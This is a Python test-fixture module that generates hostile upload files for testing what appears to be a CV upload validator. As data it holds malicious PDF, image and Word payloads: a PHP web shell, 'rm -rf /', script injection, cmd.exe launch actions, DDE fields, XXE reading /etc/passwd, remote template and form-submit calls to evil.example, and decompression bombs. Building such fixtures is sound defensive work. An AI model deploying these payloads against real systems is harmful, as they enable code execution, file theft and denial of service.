"""Hostile files, each made here: (name of the file, its bytes) by what is wrong with it."""

import io
import zipfile
import zlib
from collections.abc import Iterator
from functools import cache
from itertools import product

from pypdf import PdfReader, PdfWriter

from tests.applicants.documents import (
    corpus_acting_pdf,
    corpus_crafty_others,
    corpus_crafty_pdf,
    corpus_hidden_pictures,
    corpus_hidden_word,
    corpus_sly_pdf,
    corpus_sly_pictures,
    corpus_sly_word,
)
from tests.applicants.documents import corpus_files as parts

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
ENDINGS = ("pdf", "jpg", "jpeg", "png", "docx")
WRONG = {
    "exe": b"MZ\x90\x00" + bytes(200),
    "elf": b"\x7fELF\x02\x01\x01" + bytes(200),
    "html": b"<!DOCTYPE html><html><script>alert(1)</script></html>",
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "php": b"<?php system($_GET['c']); ?>",
    "shell": b"#!/bin/sh\nrm -rf /\n",
    "gif": b"GIF89a/*" + bytes(50) + b"*/=1;alert(1)",
    "ole": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
    "rtf": b"{\\rtf1\\object\\objocx}",
    "eicar": EICAR,
    "zeros": bytes(1000),
    "empty": b"",
    "bare zip": parts.zipped({"a.txt": "a"}),
}
GOOD = {
    "pdf": parts.pdf(),
    "jpg": parts.picture(),
    "jpeg": parts.picture(),
    "png": parts.picture("PNG"),
    "docx": parts.docx(),
}
BEHIND = {
    "html": b"\n<html><script>alert(1)</script></html>",
    "php": b"\n<?php phpinfo(); ?>",
    "zip": parts.zipped({"evil.class": "x"}),
    "exe": b"MZ" + bytes(300),
    "junk": b"A" * 3000,
}
SCRIPT = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
ACTIONS = {
    "script": SCRIPT,
    "script in a name": "<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>",
    "launch": "<< /S /Launch /F (cmd.exe) >>",
    "launch on Windows": "<< /S /Launch /Win << /F (cmd.exe) >> >>",
    "escaped launch": "<< /S /L#61unch /F (cmd.exe) >>",
    "submit": "<< /S /SubmitForm /F (https://evil.example/) >>",
    "import": "<< /S /ImportData /F (x.fdf) >>",
    "go to another file": "<< /S /GoToR /F (\\\\\\\\evil\\\\share) /D [0 /Fit] >>",
    "go to an embedded file": "<< /S /GoToE /D (x) /T << /R /C /N (evil) >> >>",
    "rendition": "<< /S /Rendition /OP 0 >>",
    "movie": "<< /S /Movie >>",
    "sound": "<< /S /Sound >>",
    "hide": "<< /S /Hide /T (x) >>",
    "link with a script": "<< /S /URI /URI (javascript:alert\\(1\\)) >>",
    "link to a file": "<< /S /URI /URI (file:///etc/passwd) >>",
    "link with data": "<< /S /URI /URI (data:text/html,x) >>",
}


def wrong_types() -> Iterator[tuple[str, str, bytes]]:
    """Yield other things under the endings that are taken, and ours under endings that are not."""
    for (what, body), ending in product(WRONG.items(), ENDINGS):
        yield f"{what} as {ending}", f"cv.{ending}", body
    for (what, body), ending in product(GOOD.items(), ENDINGS):
        if {what, ending} != {"jpg", "jpeg"} and what != ending:
            yield f"{what} named {ending}", f"cv.{ending}", body
    for ending in (
        "exe",
        "html",
        "svg",
        "php",
        "js",
        "doc",
        "docm",
        "dotm",
        "rtf",
        "gif",
        "heic",
        "pdf.exe",
        "",
    ):
        yield f"PDF named {ending}", f"cv.{ending}" if ending else "cv", GOOD["pdf"]
    for name in ("cv.exe.pdf", "cv.php.jpg", "cv.html.png", "cv.docm.docx", "cv.JS.pdf"):
        yield name, name, GOOD[name.rpartition(".")[2]]


def polyglots() -> Iterator[tuple[str, str, bytes]]:
    """Yield good files with something before or behind, and cut ones."""
    for (ending, good), (what, body) in product(GOOD.items(), BEHIND.items()):
        yield f"{what} behind {ending}", f"cv.{ending}", good + body
        yield f"{what} before {ending}", f"cv.{ending}", body + good
    for ending, good in GOOD.items():
        yield f"half a {ending}", f"cv.{ending}", good[: len(good) // 2]
        yield f"{ending} over the limit", f"cv.{ending}", good + bytes(11 * 1024 * 1024)


def pdfs() -> Iterator[tuple[str, str, bytes]]:
    """Yield PDFs that act, attach, or are locked."""
    for what, action in ACTIONS.items():
        yield f"{what} on opening", "cv.pdf", parts.pdf(catalog=f"/OpenAction {action}")
        yield f"{what} on a page", "cv.pdf", parts.pdf(page=f"/AA << /O {action} >>")
        link = f"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A {action} >>"
        yield f"{what} in a note", "cv.pdf", parts.pdf(page="/Annots [5 0 R]", more=(link.encode(),))
        yield f"{what} packed", "cv.pdf", parts.packed_pdf(action, catalog="/OpenAction 4 0 R")
    names = f"/Names << /JavaScript << /Names [(a) {SCRIPT}] >> >>"
    yield "script by name", "cv.pdf", parts.pdf(catalog=names)
    yield "script by name, packed", "cv.pdf", parts.packed_pdf(catalog=names)
    yield (
        "script in a stream",
        "cv.pdf",
        parts.pdf(
            catalog="/OpenAction << /S /JavaScript /JS 5 0 R >>", more=(parts.stream(b"app.alert(1)"),)
        ),
    )
    yield (
        "next action",
        "cv.pdf",
        parts.pdf(catalog=f"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [{SCRIPT}] >>"),
    )
    attached = (
        b"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>",
        parts.stream(b"MZ", "/Type /EmbeddedFile"),
    )
    tree = "/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>"
    yield "attachment", "cv.pdf", parts.pdf(catalog=tree, more=attached)
    yield "associated file", "cv.pdf", parts.pdf(catalog="/AF [5 0 R]", more=attached)
    yield "portfolio", "cv.pdf", parts.pdf(catalog="/Collection << /View /T >>")
    yield "dynamic form", "cv.pdf", parts.pdf(catalog="/AcroForm << /XFA (x) /Fields [] >>")
    field = f"<< /FT /Tx /T (a) /AA << /K {SCRIPT} >> >>"
    yield "script in a field", "cv.pdf", parts.pdf(catalog=f"/AcroForm << /Fields [{field}] >>")
    for kind in ("RichMedia", "Screen", "Movie", "Sound", "3D", "FileAttachment"):
        note = f"<< /Type /Annot /Subtype /{kind} /Rect [0 0 9 9] >>"
        yield f"{kind} in a note", "cv.pdf", parts.pdf(page=f"/Annots [{note}]")
    yield "stream from a file", "cv.pdf", parts.pdf(more=(parts.stream(b"", "/F (\\\\\\\\evil\\\\x)"),))
    yield from unreadable_pdfs()


def unreadable_pdfs() -> Iterator[tuple[str, str, bytes]]:
    """Yield PDFs that are locked, broken or known to scanners."""
    for secret in ("", "secret"):
        yield f"locked with {secret!r}", "cv.pdf", locked(secret)
    yield (
        "no pages",
        "cv.pdf",
        parts.written([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Kids [] /Count 0 >>"]),
    )
    yield "only a head", "cv.pdf", b"%PDF-1.7\n%%EOF\n"
    yield (
        "pages in a circle",
        "cv.pdf",
        parts.written([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"]),
    )
    yield "deep nesting", "cv.pdf", parts.pdf(more=(b"[" * 5000 + b"]" * 5000,))
    yield "EICAR in a PDF", "cv.pdf", parts.pdf(more=(parts.stream(EICAR),))


def locked(password: str) -> bytes:
    """Return a PDF locked with a password; blank opens without asking."""
    writer, target = PdfWriter(), io.BytesIO()
    writer.append(PdfReader(io.BytesIO(parts.pdf())))
    writer.encrypt(password, "owner", algorithm="RC4-128")
    writer.write(target)
    return target.getvalue()


def pictures() -> Iterator[tuple[str, str, bytes]]:
    """Yield pictures that hide code, or unpack to too much."""
    codes = (b"<?php system('id');?>", b"<script>alert(1)</script>", b"<svg onload=alert(1)>", b"eval(x)")
    for code, marker in product(codes, (0xFE, 0xE1, 0xEC)):
        yield f"{code!r} in segment {marker:x}", "photo.jpg", parts.jpeg_with(marker, b"Exif\0\0" + code)
    for code in codes:
        text, packed = b"Comment\0" + code, b"Comment\0\0" + zlib.compress(code)
        long = b"XML:com.adobe.xmp\0\1\0\0\0" + zlib.compress(code)
        yield f"{code!r} in a PNG", "photo.png", parts.png_with(parts.chunk(b"tEXt", text))
        yield f"{code!r} packed in a PNG", "photo.png", parts.png_with(parts.chunk(b"zTXt", packed))
        yield f"{code!r} packed in XMP", "photo.png", parts.png_with(parts.chunk(b"iTXt", long))
        yield f"{code!r} in a chunk", "photo.png", parts.png_with(parts.chunk(b"prVt", code))
    bomb = b"Comment\0\0" + zlib.compress(bytes(20_000_000))
    yield "text that explodes", "photo.png", parts.png_with(parts.chunk(b"zTXt", bomb))
    yield "unknown critical chunk", "photo.png", parts.png_with(parts.chunk(b"EVIL", b"x"))
    for width, height in ((60_000, 60_000), (10_000, 9_000), (2**31 - 1, 1), (0, 10), (30_000, 2_500)):
        yield f"PNG of {width} x {height}", "photo.png", parts.empty_png(width, height)
    good = parts.picture("PNG")
    yield "wrong checksum", "photo.png", good[:40] + bytes([good[40] ^ 1]) + good[41:]
    yield "no end", "photo.png", good[:-12]
    jpeg = parts.picture()
    yield "no end", "photo.jpg", jpeg[:-2]
    size = jpeg.index(b"\xff\xc0") + 5
    yield "JPEG of 65,000 x 65,000", "photo.jpg", jpeg[:size] + b"\xfd\xe8\xfd\xe8" + jpeg[size + 4 :]
    yield "zip in a remark", "photo.jpg", parts.jpeg_with(0xFE, parts.zipped({"evil.class": "x"}))
    yield "only markers", "photo.jpg", b"\xff\xd8\xff\xd9"


def documents() -> Iterator[tuple[str, str, bytes]]:
    """Yield Word documents that run, fetch or explode."""
    for name in (
        *("word/vbaProject.bin", "word/activeX/activeX1.bin", "word/embeddings/oleObject1.bin"),
        *("word/embeddings/sheet.xlsx", "word/evil.exe", "word/a.js", "word/a.html", "a.zip", "word/run.lnk"),
    ):
        yield f"with {name}", "cv.docx", parts.docx({name: b"x"})
    for name in ("../../evil.xml", "/etc/evil.xml", "word\\evil.xml", "C:/evil.xml", "word/../../x.xml"):
        yield f"part named {name}", "cv.docx", parts.docx({name: "<a/>"})
    relations = "word/_rels/document.xml.rels"
    for kind, target, is_outside in (
        *(
            ("attachedTemplate", f"{start}evil/x.dotm", True)
            for start in ("https://", "http://", "file://", "\\\\")
        ),
        *(
            (kind, "https://evil.example/x", True)
            for kind in ("image", "oleObject", "frame", "subDocument", "video")
        ),
        *(
            ("hyperlink", target, True)
            for target in ("javascript:alert(1)", "file:///c:/x.exe", "ms-msdt:/id")
        ),
        *((kind, "x.bin", False) for kind in ("vbaProject", "control", "aFChunk", "package", "oleObject")),
    ):
        body = parts.relations((kind, target, is_outside))
        yield f"{kind} to {target}", "cv.docx", parts.docx({relations: body})
    yield from documents_of_bad_xml()


def documents_of_bad_xml() -> Iterator[tuple[str, str, bytes]]:
    """Yield Word documents with entities, fields that act, and parts of another kind."""
    laughs = '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'
    outside = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
    for what, body in (
        ("laughs", laughs),
        ("entity", outside),
        ("broken XML", "<a><b></a>"),
        ("bare DTD", "<!DOCTYPE a><a/>"),
    ):
        yield what, "cv.docx", parts.docx({"word/document.xml": body})
        yield f"{what} beside", "cv.docx", parts.docx({"word/styles.xml": body})
    for field in (
        'DDEAUTO c:\\\\cmd.exe "/k calc"',
        "dde x y",
        "INCLUDEPICTURE https://evil.example/x",
        "QUOTE 68 68 69",
    ):
        inside = f"<w:r><w:instrText>{field}</w:instrText></w:r>"
        yield f"field {field}", "cv.docx", parts.docx({"word/document.xml": parts.paragraph(inside)})
        split = "".join(f"<w:r><w:instrText>{sign}</w:instrText></w:r>" for sign in field)
        yield f"split field {field}", "cv.docx", parts.docx({"word/document.xml": parts.paragraph(split)})
        simple = f"<w:fldSimple w:instr='{field}'/>"
        yield f"simple field {field}", "cv.docx", parts.docx({"word/document.xml": parts.paragraph(simple)})
    yield "embedded object", "cv.docx", parts.docx({"word/document.xml": parts.paragraph("<w:object/>")})
    for what, body in (("zip", parts.zipped({"a": "b"})), ("exe", b"MZ"), ("PDF", parts.pdf())):
        yield f"{what} as a picture", "cv.docx", parts.docx({"word/media/image1.png": body})
    yield "EICAR inside", "cv.docx", parts.docx({"word/a.xml": b"<a>" + EICAR.replace(b"&", b"") + b"</a>"})
    yield from documents_of_other_kinds()


def documents_of_other_kinds() -> Iterator[tuple[str, str, bytes]]:
    """Yield Word documents that are something else, lack a part or explode."""
    macro = parts.TYPES.replace(parts.MAIN, "application/vnd.ms-word.document.macroEnabled.main+xml")
    yield "macros by type", "cv.docx", parts.docx({"[Content_Types].xml": macro})
    yield (
        "a sheet by type",
        "cv.docx",
        parts.docx({"[Content_Types].xml": parts.TYPES.replace("word", "sheet")}),
    )
    for name in ("[Content_Types].xml", "_rels/.rels", "word/document.xml"):
        yield f"without {name}", "cv.docx", parts.docx(without=(name,))
    yield "90 MB of nothing", "cv.docx", parts.docx({"word/a.xml": b"<a>" + bytes(90_000_000) + b"</a>"})
    yield "30 MB of spaces", "cv.docx", parts.docx({"word/a.xml": b"<a>" + b" " * 30_000_000 + b"</a>"})
    yield "script in a drawing", "cv.docx", parts.docx({"word/media/a.svg": "<svg><script>x</script></svg>"})
    yield "many parts", "cv.docx", parts.docx({f"word/{number}.xml": "<a/>" for number in range(2000)})
    yield "remark behind", "cv.docx", commented()


def commented() -> bytes:
    """Return a Word document with a remark at the end of its zip."""
    target = io.BytesIO(parts.docx())
    with zipfile.ZipFile(target, "a") as archive:
        archive.comment = b"<script>"
    return target.getvalue()


@cache
@cache
def hostile() -> dict[str, tuple[str, bytes]]:
    """Return every hostile file by what is wrong with it; two that are alike count once."""
    found: dict[str, tuple[str, bytes]] = {}
    sly = (corpus_sly_pdf.pdfs, corpus_sly_pictures.pictures, corpus_sly_word.documents)
    crafty = (corpus_crafty_pdf.pdfs, corpus_crafty_others.everything)
    hidden = (corpus_hidden_pictures.everything, corpus_hidden_word.documents, corpus_acting_pdf.pdfs)
    for source in (wrong_types, polyglots, pdfs, pictures, documents, *sly, *crafty, *hidden):
        for what, name, body in source():
            found[f"{source.__module__.rpartition('_')[2]} {source.__name__}: {what} ({name})"] = (name, body)
    return found
